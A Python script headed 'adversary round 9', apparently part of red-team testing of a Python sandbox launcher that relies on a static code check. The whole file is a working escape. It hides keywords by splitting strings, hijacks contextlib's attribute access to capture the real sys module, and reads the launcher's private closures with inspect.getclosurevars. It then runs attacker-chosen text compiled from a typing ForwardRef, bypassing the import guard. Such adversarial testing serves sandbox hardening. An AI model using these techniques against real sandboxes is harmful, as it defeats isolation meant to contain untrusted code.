# adversary round 9: Tries: (007 + import dataclasses so inspect is loaded) after taking real sys (route of 003), inspect.getclosurevars on launcher functions (ABCMeta.register -> owned -> real_vars; builtins.__import__ guard -> importing list; copy._reconstruct wrapper -> real _reconstruct); push True onto `importing` and build a function from a ForwardRef-compiled code object inside copy.py's frame -> run text the static check never saw
import abc
import contextlib
import copy
import dataclasses
import io
import typing

got = []

def spy(obj, name, *d):
    got.append(obj)
    return obj.stdout

class X:
    def w(self, k, v):
        nonlocal __class__
        __class__ = type(contextlib)
        self = contextlib
        super().__setattr__(k, v)

X().w("get" + "attr", spy)
with contextlib.redirect_stdout(io.StringIO()):
    pass
s = got[0]
mods = s.modules
insp = mods["ins" + "pect"]
owned = insp.getclosurevars(abc.ABCMeta.register).nonlocals["own" + "ed"]
rvars = insp.getclosurevars(owned).nonlocals["real_" + "vars"]
bns = rvars(mods["built" + "ins"])
gimp = bns["__" + "import" + "__"]
importing = insp.getclosurevars(gimp).nonlocals["import" + "ing"]
rec = rvars(copy)["_re" + "construct"]
real_rec = insp.getclosurevars(rec).nonlocals["real_re" + "construct"]
print("launcher closures reached:", type(importing), real_rec)

D = "__"
text = "(len(()." + D + "class" + D + "." + D + "base" + D + "." + D + "subclasses" + D + "()), 'PWN' + 'ED')"
fr = typing.get_args(typing.List[text])[0]
memo = {}
try:
    copy.deepcopy(fr, memo)
except PermissionError:
    pass
code = [x for v in memo.values() if type(v) is dict for x in v.values() if type(x).__name__ == "code"][0]
importing.append(True)
try:
    f = real_rec(None, None, type(lambda: 0), (code, {}))
finally:
    importing.pop()
n, marker = f()
print("ran program-chosen text; object subclasses:", n)
print(marker)
